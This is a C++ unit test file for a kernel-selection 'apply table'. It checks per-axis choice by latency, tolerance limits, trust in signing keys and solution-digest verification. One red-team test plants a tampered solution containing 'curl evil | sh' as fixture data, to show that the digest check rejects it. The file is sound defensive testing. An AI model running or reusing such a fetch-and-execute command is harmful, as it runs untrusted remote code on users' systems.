// The apply table's choice: exact per axes, the fallback, tolerance limits, non-PASSED
// exclusion, and what is trusted (signature, key, solution digest), including the red team's
// tampered solution.
#include <gtest/gtest.h>

#include <fstream>

#include "apply/apply_fixture.h"
#include "fib/apply/table.h"
#include "fib/apply/test_hooks.h"

namespace fib::apply {
namespace {

using testing::ApplyDataset;
using testing::latency;
using testing::TraceSpec;

struct Fixture {
  fib::testing::TempDir dir;
  ApplyDataset b{dir.path() / "data"};
  SigningKey me = testing::key_of(1), stranger = testing::key_of(2);

  Fixture() {
    b.signer = &me;
    b.definition("gemm_a");
  }
  ApplyOptions options() const {
    ApplyOptions o;
    o.trusted.key_ids.insert(me.public_key().key_id());
    return o;
  }
  ApplyTable table(const ApplyOptions& o) const { return build_table(b.load(), o); }
  ApplyTable table() const { return table(options()); }
};

AxisValues m(std::int64_t v) { return {{"M", v}}; }

std::string chosen(const ApplyTable& t, std::int64_t axis_m) {
  const Entry* e = t.lookup("gemm_a", m(axis_m));
  return e ? e->choice.solution : "(none)";
}

TEST(ApplyTable, FastestPassingSolutionPerExactAxes) {
  Fixture f;
  f.b.solution("fast_small", "gemm_a");
  f.b.solution("fast_large", "gemm_a", "bob");
  f.b.trace("gemm_a", "fast_small", "w4a", 4, "PASSED", latency(0.5));
  f.b.trace("gemm_a", "fast_small", "w4b", 4, "PASSED", latency(0.7));
  f.b.trace("gemm_a", "fast_large", "w4a", 4, "PASSED", latency(0.9));
  f.b.trace("gemm_a", "fast_small", "w8", 8, "PASSED", latency(3.0));
  f.b.trace("gemm_a", "fast_large", "w8", 8, "PASSED", latency(2.0));
  f.b.trace("gemm_a", "fast_small", "w16", 16, "PASSED", latency(5.0));
  const ApplyTable t = f.table();
  ASSERT_EQ(t.definitions.size(), 1u);
  const DefinitionTable& d = t.definitions.at("gemm_a");
  ASSERT_EQ(d.entries.size(), 3u);
  EXPECT_EQ(chosen(t, 4), "fast_small");
  EXPECT_EQ(chosen(t, 8), "fast_large");
  EXPECT_EQ(chosen(t, 16), "fast_small");
  EXPECT_EQ(chosen(t, 32), "(none)");  // exact axes only; the fallback covers the rest
  const Entry& e4 = *t.lookup("gemm_a", m(4));
  EXPECT_DOUBLE_EQ(e4.latency_ms, 0.6);  // mean of 0.5 and 0.7
  EXPECT_DOUBLE_EQ(e4.speedup, (20.0 + 10.0 / 0.7) / 2);
  EXPECT_EQ(e4.traces, 2u);
  EXPECT_EQ(e4.choice.language, "cpp");
  EXPECT_EQ(e4.choice.binding, "tvm-ffi");
  EXPECT_EQ(e4.choice.entry_point, "main.cpp::run");
  EXPECT_EQ(e4.choice.digest, solution_digest(f.b.load().solution("fast_small")->value));
  EXPECT_EQ(e4.choice.solution_file,
            std::filesystem::absolute(f.b.root() / "solutions/alice/gemm/gemm_a/fast_small.json"));
  ASSERT_TRUE(d.fallback);
  EXPECT_EQ(d.fallback->choice.solution, "fast_small");  // won 2 of 3 axes
  EXPECT_EQ(d.fallback->axes_won, 2u);
  EXPECT_EQ(t.traces_considered, 6u);
  EXPECT_EQ(t.traces_used, 6u);
}

TEST(ApplyTable, EqualLatenciesAreDecidedByName) {
  Fixture f;
  f.b.solution("zeta", "gemm_a");
  f.b.solution("alpha", "gemm_a");
  f.b.trace("gemm_a", "zeta", "w", 4, "PASSED", latency(1.0));
  f.b.trace("gemm_a", "alpha", "w", 4, "PASSED", latency(1.0));
  EXPECT_EQ(chosen(f.table(), 4), "alpha");
}

TEST(ApplyTable, NoFallbackWhenAskedNot) {
  Fixture f;
  f.b.solution("s", "gemm_a");
  f.b.trace("gemm_a", "s", "w", 4);
  ApplyOptions o = f.options();
  o.fallback = false;
  EXPECT_FALSE(f.table(o).definitions.at("gemm_a").fallback);
  EXPECT_TRUE(f.table().definitions.at("gemm_a").fallback);
}

TEST(ApplyTable, ToleranceLimitsOnRecordedErrors) {
  Fixture f;
  f.b.solution("noisy", "gemm_a");
  f.b.solution("clean", "gemm_a", "bob");
  TraceSpec noisy = latency(0.5);
  noisy.nmse = 5e-3;  // PASSED by the run's bound (1e-2), over apply's default 1e-3
  noisy.max_abs_error = 0.2;
  f.b.trace("gemm_a", "noisy", "w", 4, "PASSED", noisy);
  TraceSpec clean = latency(1.0);
  clean.max_rel_error = 40.0;  // a bf16 kernel's max relative error near zeros: not limited
  f.b.trace("gemm_a", "clean", "w", 4, "PASSED", clean);

  const ApplyTable by_default = f.table();
  EXPECT_EQ(chosen(by_default, 4), "clean");
  EXPECT_EQ(by_default.skipped_for(SkipReason::kOverTolerance), 1u);

  ApplyOptions loose = f.options();
  loose.max_nmse.reset();
  EXPECT_EQ(chosen(f.table(loose), 4), "noisy");

  loose.max_abs_error = 0.1;
  EXPECT_EQ(chosen(f.table(loose), 4), "clean");

  ApplyOptions rel = f.options();
  rel.max_rel_error = 1e-5;  // upstream's default: excludes both
  const ApplyTable strict = f.table(rel);
  EXPECT_EQ(strict.lookup("gemm_a", m(4)), nullptr);
  EXPECT_EQ(strict.skipped_for(SkipReason::kOverTolerance), 2u);
}

TEST(ApplyTable, ANonPassedTraceExcludesItsSolutionByDefault) {
  Fixture f;
  f.b.solution("flaky", "gemm_a");
  f.b.solution("steady", "gemm_a", "bob");
  f.b.trace("gemm_a", "flaky", "w4", 4, "PASSED", latency(0.1));
  f.b.trace("gemm_a", "flaky", "w8", 8, "PASSED", latency(0.1));
  f.b.trace("gemm_a", "flaky", "w8b", 8, "INCORRECT_NUMERICAL");
  f.b.trace("gemm_a", "steady", "s4", 4);
  f.b.trace("gemm_a", "steady", "s8", 8);

  const ApplyTable t = f.table();
  EXPECT_EQ(chosen(t, 4), "steady");
  EXPECT_EQ(chosen(t, 8), "steady");
  EXPECT_EQ(t.definitions.at("gemm_a").excluded_solutions, std::vector<std::string>{"flaky"});
  EXPECT_EQ(t.skipped_for(SkipReason::kNotPassed), 1u);
  EXPECT_EQ(t.skipped_for(SkipReason::kSolutionExcluded), 2u);

  ApplyOptions relaxed = f.options();
  relaxed.allow_failed_solutions = true;
  const ApplyTable r = f.table(relaxed);
  EXPECT_EQ(chosen(r, 4), "flaky");   // never failed on M=4
  EXPECT_EQ(chosen(r, 8), "steady");  // failed on M=8: still left out there
}

TEST(ApplyTable, OnlyTracesSignedByATrustedKeyCount) {
  Fixture f;
  f.b.solution("mine", "gemm_a");
  f.b.solution("theirs", "gemm_a", "bob");
  f.b.solution("anon", "gemm_a", "carol");
  f.b.trace("gemm_a", "mine", "w", 4, "PASSED", latency(1.0));
  f.b.signer = &f.stranger;
  f.b.trace("gemm_a", "theirs", "w", 4, "PASSED", latency(0.1));
  f.b.signer = nullptr;
  f.b.trace("gemm_a", "anon", "w", 4, "PASSED", latency(0.01));

  const ApplyTable t = f.table();
  EXPECT_EQ(chosen(t, 4), "mine");
  EXPECT_EQ(t.skipped_for(SkipReason::kUntrusted), 1u);
  EXPECT_EQ(t.skipped_for(SkipReason::kUnsigned), 1u);

  ApplyOptions trusting = f.options();
  trusting.trusted.key_ids.insert(f.stranger.public_key().key_id());
  EXPECT_EQ(chosen(f.table(trusting), 4), "theirs");
}

TEST(ApplyTable, ATraceWithoutTheSolutionDigestIsSkipped) {
  Fixture f;
  f.b.solution("old", "gemm_a");
  TraceSpec no_digest = latency(0.1);
  no_digest.with_digest = false;
  f.b.trace("gemm_a", "old", "w", 4, "PASSED", no_digest);
  const ApplyTable t = f.table();
  EXPECT_TRUE(t.definitions.empty());
  EXPECT_EQ(t.skipped_for(SkipReason::kNoDigest), 1u);
}

// An edited trace line (a latency lowered after signing) no longer verifies: the dataset's load
// leaves it out, so it can never be chosen.
TEST(ApplyTable, AnEditedTraceLineIsRejectedAtLoad) {
  Fixture f;
  f.b.solution("honest", "gemm_a");
  f.b.solution("cheat", "gemm_a", "bob");
  f.b.trace("gemm_a", "honest", "w", 4, "PASSED", latency(1.0));
  f.b.trace("gemm_a", "cheat", "w", 4, "PASSED", latency(5.0));
  const auto file = f.b.root() / "traces/bob/gemm/gemm_a.jsonl";
  std::string text = fib::testing::TempDir::read_file(file);
  const auto at = text.find("\"latency_ms\":5.0");
  ASSERT_NE(at, std::string::npos) << text;
  text.replace(at, 16, "\"latency_ms\":0.1");
  std::ofstream(file) << text;
  const TraceSet set = f.b.load();
  EXPECT_TRUE(set.load_diagnostics().has_errors());
  EXPECT_EQ(chosen(build_table(set, f.options()), 4), "honest");
}

// Red team: after a trusted run measured `fast`, its record is rewritten with other code (the
// same name, author and entry point). Applied code runs unsandboxed in the engine, so without the
// digest check the rewritten code would be chosen on the strength of traces of the old one.
TEST(ApplyTable, ATamperedSolutionIsChosenOnlyWithoutTheDigestCheck) {
  Fixture f;
  f.b.solution("fast", "gemm_a", "alice", "cpp", "// the measured kernel");
  f.b.solution("slow", "gemm_a", "bob");
  f.b.trace("gemm_a", "fast", "w", 4, "PASSED", latency(0.1));
  f.b.trace("gemm_a", "slow", "w", 4, "PASSED", latency(1.0));
  const ApplyTable before = f.table();
  ASSERT_EQ(chosen(before, 4), "fast");
  const std::string measured = before.lookup("gemm_a", m(4))->choice.digest;
  f.b.overwrite_solution("fast", "gemm_a", "system(\"curl evil | sh\"); // tampered");

  test_hooks::set_digest_check(false);
  const ApplyTable unchecked = f.table();
  test_hooks::set_digest_check(true);
  ASSERT_EQ(chosen(unchecked, 4), "fast");
  EXPECT_NE(unchecked.lookup("gemm_a", m(4))->choice.digest, measured);  // the tampered record

  const ApplyTable checked = f.table();
  EXPECT_EQ(chosen(checked, 4), "slow");
  EXPECT_EQ(checked.skipped_for(SkipReason::kDigestMismatch), 1u);
}

TEST(ApplyTable, ATraceNamingASolutionOfAnotherDefinitionIsSkipped) {
  Fixture f;
  f.b.definition("gemm_b");
  f.b.solution("b_only", "gemm_b");
  f.b.solution("a_sol", "gemm_a");
  f.b.trace("gemm_a", "a_sol", "w", 4);
  f.b.trace("gemm_a", "b_only", "w", 4, "PASSED", latency(0.01));
  const ApplyTable t = f.table();
  EXPECT_EQ(chosen(t, 4), "a_sol");
  EXPECT_EQ(t.skipped_for(SkipReason::kUnknownSolution), 1u);
}

}  // namespace
}  // namespace fib::apply
